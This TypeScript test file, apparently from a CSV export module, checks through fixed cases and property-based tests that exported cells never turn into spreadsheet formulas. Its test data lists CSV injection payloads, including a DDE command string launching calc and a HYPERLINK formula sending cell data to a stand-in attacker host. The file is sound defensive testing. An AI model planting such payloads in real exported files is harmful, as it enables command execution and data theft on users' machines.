import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsvLine } from '../src/export/csv-line.ts';

/** Cells as a spreadsheet reads them that takes `delimiter` for the end of a cell. */
const readCells = (text: string, delimiter: string): string[] => {
  const cells = [''];
  let isQuoted = false;
  let isFresh = true;
  const add = (unit: string) => cells.push(`${cells.pop() ?? ''}${unit}`);
  for (let at = 0; at < text.length; at += 1) {
    const unit = text[at] ?? '';
    if (isQuoted && unit === '"' && text[at + 1] === '"') {
      add('"');
      at += 1;
    } else if (isQuoted && unit === '"') isQuoted = false;
    else if (!isQuoted && isFresh && unit === '"') isQuoted = true;
    else if (!isQuoted && (unit === delimiter || unit === '\r' || unit === '\n')) {
      cells.push('');
      isFresh = true;
      continue;
    } else add(unit);
    isFresh = false;
  }
  return cells;
};

// owasp.org/www-community/attacks/CSV_Injection and its links, read 2026-11-22
const attacks = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1',
  `'=1+1`,
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Error")',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '|calc',
  '%0A-3+3',
  '\uFEFF=1+1',
  'text;=1+1',
  'text\t=1+1',
  'text\n=1+1',
  'text";=1+1;"',
];

const isFormula = (cell: string) => /^[\s"\uFEFF\u200B]*[=+\-@|%＝＋－＠]/u.test(cell);

describe('toCsvLine', () => {
  it.each(attacks)('makes no formula of %j, whatever ends a cell', (attack) => {
    for (const delimiter of [',', ';', '\t']) {
      const cells = readCells(toCsvLine(['first', attack, 'last']), delimiter);
      expect(cells.filter(isFormula)).toEqual([]);
    }
  });

  it('makes no formula of any text', () => {
    const unit = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '"',
      "'",
      ';',
      ',',
      '\t',
      '\r',
      '\n',
      ' ',
      'a',
    );
    const cell = fc.string({ unit, maxLength: 12 });
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 4 }), (cells) => {
        for (const delimiter of [',', ';', '\t']) {
          expect(readCells(toCsvLine(cells), delimiter).filter(isFormula)).toEqual([]);
        }
      }),
    );
  });

  it('keeps harmless text as it is', () => {
    const unit = fc.constantFrom('a', 'é', '"', ',', ' ', '😀', '1', '.', ':');
    fc.assert(
      fc.property(fc.array(fc.string({ unit }), { minLength: 2, maxLength: 5 }), (cells) => {
        expect(readCells(toCsvLine(cells).slice(0, -2), ',')).toEqual(cells);
      }),
    );
    expect(toCsvLine(['a"b', null, 'x\0y'])).toBe('"a""b","","x\uFFFDy"\r\n');
  });
});
